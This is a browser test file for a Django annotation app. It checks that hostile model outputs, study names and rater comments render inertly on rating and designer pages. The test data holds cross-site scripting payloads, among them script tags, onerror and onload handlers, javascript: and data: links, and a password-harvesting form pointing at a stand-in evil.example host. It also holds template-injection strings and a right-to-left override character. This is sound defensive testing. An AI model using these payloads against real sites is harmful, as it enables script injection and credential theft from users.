"""What a model wrote is harmless on every page that shows it."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from annotation.models import Unit
from annotation.services.assigning import next_task
from annotation.services.joining import seat_for
from annotation.services.submitting import Answer, submit

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ATTACK = """Before <script>window.harmed = 1</script> after

<img src="https://evil.example/a.png" onerror="window.harmed = 2">
<svg onload="window.harmed = 3"></svg>
<style>body { display: none }</style>
</div></main></form><form action="https://evil.example/"><input name="password"></form>

[press here](javascript:window.harmed=4) [or here](data:text/html,<script>window.harmed=5</script>)
![remote](https://evil.example/pixel.png)

```html" onmouseover="window.harmed = 6
</code></pre><script>window.harmed = 7</script>
```

pay\u202eload {{ csrf_token }} {% csrf_token %}
"""
LONG_LINE = "x" * 1_000_000
NAME = '<script>window.harmed=8</script>"><img src=x onerror=window.harmed=9>'


@pytest.fixture
def watched(page: Any, refused: list[str]) -> Iterator[Any]:
    """A page that fails the test if anything ran, asked, left the site or was loaded from elsewhere."""
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    foreign: list[str] = []

    def keep_home(route: Any) -> None:
        foreign.append(route.request.url)
        route.abort()

    page.route(lambda url: "localhost" not in url and not url.startswith("data:"), keep_home)
    yield page
    assert foreign == []
    assert refused == []


@pytest.fixture
def hostile(make_study: Any, criteria: Any, other_rater: Any) -> Any:
    """Prompt, outputs, names, labels and instructions are all attacks; one rating is given, with an attack for its note."""
    criterion = criteria["helpful"]
    for label in criterion.labels:
        label["label"] = label["help"] = NAME
    criterion.name = criterion.question = criterion.help = NAME
    criterion.save()
    study = make_study(
        "side_by_side",
        ["helpful"],
        name=NAME,
        examples=2,
        texts=(ATTACK, LONG_LINE),
        prompt=ATTACK,
        instructions=ATTACK,
    )
    study.version.dataset.name = study.version.dataset.description = NAME
    study.version.dataset.save()
    study.version.examples.update(slices={NAME: NAME})
    for place, system in enumerate(study.systems.all()):
        system.name = f"{place} {NAME}"
        system.save()
    seat = seat_for(user=other_rater, study_id=study.pk)
    task = next_task(seat=seat)
    submit(seat=seat, key=task.key, answers={criterion.pk: Answer(None, NAME)}, comment=ATTACK)
    return study


def look(page: Any, url: str) -> None:
    response = page.goto(url)
    assert response.status == 200, (url, response.status)
    page.mouse.move(300, 300)
    assert page.evaluate("() => window.harmed") is None, url
    assert page.locator("form[action*='evil']").count() == 0, url
    assert page.locator("a[href^='javascript:'], a[href^='data:']").count() == 0, url
    assert page.locator("body").is_visible(), url


def test_on_the_rating_page(watched: Any, sign_in: Any, rater: Any, hostile: Any) -> None:
    sign_in(watched, rater)
    look(watched, "/rate/")
    look(watched, f"/rate/{hostile.pk}/")
    watched.keyboard.press("Escape")
    answers = watched.locator(".side")
    expect(answers.filter(has_text="Before <script>window.harmed = 1</script> after")).to_have_count(1)
    expect(answers.filter(has_text="U+202E")).to_have_count(1)
    for _ in range(2):
        watched.keyboard.press("3")
        watched.keyboard.press("Enter")
    expect(watched.locator(".rate-end")).to_be_visible()
    assert watched.evaluate("() => window.harmed") is None


def test_a_line_of_a_million_letters_wraps_and_does_not_hold_up_the_page(
    watched: Any, sign_in: Any, rater: Any, hostile: Any
) -> None:
    sign_in(watched, rater)
    watched.goto(f"/rate/{hostile.pk}/", wait_until="load", timeout=8000)
    widths = watched.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1]
    watched.keyboard.press("Escape")
    watched.get_by_text("more characters").click()
    assert watched.evaluate("() => document.documentElement.scrollWidth") <= widths[1]


@pytest.mark.parametrize(
    "name",
    [
        "study",
        "study-units",
        "study-unit",
        "dataset",
        "example",
        "systems",
        "criteria",
        "criterion",
        "studies",
        "datasets",
    ],
)
def test_on_the_pages_of_designers(
    watched: Any, sign_in: Any, designer: Any, rater: Any, hostile: Any, name: str
) -> None:
    url = reverse(name, kwargs={"workspace": hostile.workspace.slug, **arguments(name, hostile)})
    sign_in(watched, designer)
    look(watched, url)
    widths = watched.evaluate(
        "() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1] + 1, f"{url} is wider than the screen"


def arguments(name: str, study: Any) -> dict[str, int]:
    unit = Unit.objects.filter(study=study).order_by("pk")[0]
    return {
        "study": {"pk": study.pk},
        "study-units": {"pk": study.pk},
        "study-unit": {"pk": study.pk, "unit": unit.pk},
        "dataset": {"pk": study.version.dataset_id},
        "example": {"pk": unit.example_id},
        "criterion": {"pk": study.study_criteria.get().criterion_id},
    }.get(name, {})
